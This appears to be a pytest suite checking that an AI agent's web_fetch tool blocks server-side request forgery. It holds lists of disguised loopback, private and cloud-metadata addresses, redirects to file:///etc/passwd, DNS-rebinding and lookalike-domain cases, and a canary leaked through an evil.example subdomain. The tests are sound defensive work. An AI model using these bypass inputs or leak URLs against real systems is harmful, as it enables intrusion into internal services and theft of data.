"""What a fetch can reach, through the whole agent.

All addresses are in `tests/host/test_address.py`, all ways to answer a fetch in `test_fetch.py`.
"""

import asyncio
import sys
from pathlib import Path

import pytest

from tests.support.scripted_turns import RecordingModel, apart, call
from tests.support.web import PUBLIC, Answer, listening, page, public_web, redirect
from tests.support.whole_agent import User, events_of, whole

CANARY = "canary-5d21f0"


async def fetched(tmp_path: Path, *urls: str, mode: str = "full-access", user: User | None = None) -> list[str]:
    model = RecordingModel(apart(call("web_fetch", url=url) for url in urls))
    async with whole(tmp_path, model.make, mode=mode, user=user) as (_, session):
        await events_of(session)
    return model.results


@pytest.mark.requirement("I9")
async def test_no_private_address_is_fetched(tmp_path: Path) -> None:
    """In the mode that allows everything, with a listener that hears nothing."""
    with listening() as (port, heard):
        hosts = [
            *("127.0.0.1", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1", "0177.1", "127.1"),
            *("localhost", "localhost.", "LOCALHOST", "169.254.169.254", "100.64.0.1", "[fd00:ec2::254]", "10.0.0.1"),
            *("[64:ff9b::7f00:1]", "[2002:7f00:1::]", "user@127.0.0.1", "example.com@127.0.0.1", "127.0.0.1\0.com"),
        ]
        results = await fetched(tmp_path, *(f"http://{host}:{port}/{CANARY}" for host in hosts))
        assert len(results) == len(hosts)
        assert not any(CANARY in result and "HTTP" in result for result in results)
        assert heard == []


@pytest.mark.requirement("I10")
async def test_a_redirect_to_a_private_address_is_refused_at_the_hop(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    targets = ["http://127.0.0.1/", "http://169.254.169.254/latest", "file:///etc/passwd", "ftp://example.com/"]
    answers: dict[str, Answer] = {f"/{number}": redirect(target) for number, target in enumerate(targets)}
    answers |= {f"/r{number}": redirect(f"/r{number + 1}") for number in range(12)}
    async with public_web(monkeypatch, answers) as world:
        results = await fetched(tmp_path, *(f"http://example.com/{n}" for n in [*range(len(targets)), "r0"]))
        assert {address for address, *_ in world.dialled} == {PUBLIC}
    assert "more than 10 times" in results[-1]
    assert not any("root:" in result for result in results)


@pytest.mark.requirement("I11")
async def test_only_the_address_that_was_checked_is_dialled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with public_web(monkeypatch, {"/": page(b"hello")}) as world:
        world.names["rebind.example"] = [[PUBLIC], ["127.0.0.1"]]
        results = await fetched(tmp_path, "http://rebind.example/", "http://rebind.example/")
        assert [address for address, *_ in world.dialled] == [PUBLIC]
    assert results[0] == "hello"
    assert "not public" in results[1]


TWINS = [
    "http://example.com.evil/",
    "http://evil-example.com/",
    "http://sub.example.com/",
    "http://exаmple.com/",  # a Cyrillic letter
    "http://xn--exmple-4nf.com/",
    "http://example.com@evil.com/",
    "http://evil.com/?example.com",
    "http://evil.com#example.com",
]


@pytest.mark.requirement("I12")
async def test_always_for_a_host_is_for_that_host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    user = User("allow_always", "reject_once")
    async with public_web(monkeypatch, {"/": page(b"hello"), "/other": page(b"other")}) as world:
        results = await fetched(
            tmp_path, "http://example.com/", "http://EXAMPLE.com./other", *TWINS, mode="ask", user=user
        )
        assert set(world.resolved) == {"example.com"}
    assert results[:2] == ["hello", "other"]
    assert len(user.asked) == 1 + sum(result == "Permission denied. The user said no." for result in results)
    assert "hello" not in results[2:]


async def drip(writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n")
    while True:
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(0.01)


async def endless(writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n")
    while True:
        writer.write(b"x" * 65536)
        await writer.drain()


@pytest.mark.requirement("I13")
async def test_a_page_without_an_end_is_cut(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """By its size, and by the user, who does not wait for the deadline."""
    async with public_web(monkeypatch, {"/endless": endless, "/drip": drip}):
        (result,) = await fetched(tmp_path, "http://example.com/endless")
        assert (len(result) < 30_000, "there was more" in result) == (True, True)
        model = RecordingModel([call("web_fetch", url="http://example.com/drip")])
        async with whole(tmp_path, model.make, mode="full-access") as (_, session):
            turn = session.prompt("go")
            async with asyncio.timeout(30):
                async for event in turn:
                    if getattr(event, "status", "") == "in_progress":
                        await turn.cancel()
        assert turn.stop_reason == "cancelled"


@pytest.mark.requirement("I14")
async def test_nothing_is_resolved_before_a_yes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A name is a message already; and a redirect is no way to another host."""
    async with public_web(monkeypatch, {"/": redirect(f"http://evil.example/?{CANARY}")}) as world:
        leak = f"http://{CANARY}.evil.example/"
        for mode in ("ask", "workspace-write", "read-only", "plan", "safe", "sandbox"):
            results = await fetched(tmp_path, leak, mode=mode, user=User("reject_once"))
            reason = "The user said no" if mode in ("ask", "workspace-write") else f"Mode {mode} does not allow it"
            assert results == [f"Permission denied. {reason}."]
        assert world.resolved == []
        user = User("allow_always", "reject_once")
        results = await fetched(
            tmp_path, "http://example.com/", f"http://evil.example/?{CANARY}", mode="ask", user=user
        )
        assert set(world.resolved) == {"example.com"}
        assert "redirects to another host" in results[0]
        assert len(user.asked) == 2


@pytest.mark.parametrize("library", ["httpx2", "lxml.etree", "h2.exceptions"])
async def test_a_library_that_is_missing_is_named_with_its_extra(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, library: str
) -> None:
    for module in ("fetch", "bounded_body", "public_web", "readable"):
        monkeypatch.delitem(sys.modules, f"dragoman.host.{module}", raising=False)
    monkeypatch.setitem(sys.modules, library, None)
    (result,) = await fetched(tmp_path, "http://example.com/")
    assert result.startswith(f"web_fetch needs {library.partition('.')[0]}, and it is not installed: pip install 'drag")
    assert "dragoman[agent]" in result
